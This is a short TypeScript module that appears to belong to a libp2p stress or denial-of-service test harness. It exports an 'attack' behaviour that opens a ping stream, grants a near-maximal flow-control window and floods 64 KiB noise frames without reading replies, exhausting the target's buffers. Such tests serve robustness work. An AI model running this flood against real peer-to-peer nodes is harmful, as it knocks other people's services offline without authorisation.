/** libp2p pings on a connection whose answers are never taken off the wire. */
import type { Behaviour } from '../attack/target.js'
import { data, flooding, FRAME, header, noise1MiB, opening } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => n === 0 ? Buffer.concat([opening(1, '/ipfs/ping/1.0.0'), header(FRAME.window, 0, 1, 0x7fff_ffff)]) : data(1, noise1MiB.subarray(0, 64 * 1024)), { reads: false })
